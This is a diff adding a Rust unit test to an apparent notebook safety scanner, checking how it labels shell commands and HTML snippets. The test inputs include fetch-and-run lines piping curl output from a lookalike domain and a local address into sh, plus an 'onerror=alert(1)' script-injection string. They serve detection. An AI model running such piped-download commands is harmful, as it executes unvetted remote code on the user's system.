@@ -68,6 +68,20 @@ fn notebooks_that_fetch_and_run_are_told() {
 }
 
 #[test]
+fn a_known_installer_and_a_quoted_handler_are_less() {
+    let dangers = |kind: &str, source: &str| list(&notebook(kind, &serde_json::json!(source), ""), DANGERS);
+    assert_eq!(dangers("code", "!curl -LsSf https://astral.sh/uv/install.sh | sh"), ["installer"]);
+    assert_eq!(dangers("code", "!curl -LsSf https://astral.sh.example.com/uv/install.sh | sh"), ["shell"]);
+    let both = "!curl -fsSL https://ollama.com/install.sh | sh\n!curl -s http://127.0.0.1/x | sh";
+    assert_eq!(dangers("code", both), ["shell"]);
+    for quiet in ["!echo y | bash setup.sh", "!curl -s https://example.org/x | python -m json.tool", "!crontab -l"] {
+        assert!(dangers("code", quiet).is_empty(), "{quiet}");
+    }
+    assert!(dangers("markdown", "Set `<img src=x onerror=alert(1)>` or onload= yourself.").is_empty());
+    assert!(dangers("markdown", "```html\n<body onload=run()>\n```").is_empty());
+}
+
+#[test]
 fn ordinary_notebooks_are_silent() {
     for (kind, source) in [
         ("code", "!pip install -q numpy\n!nvidia-smi\n%matplotlib inline\nimport numpy as np\nprint(np.e)"),
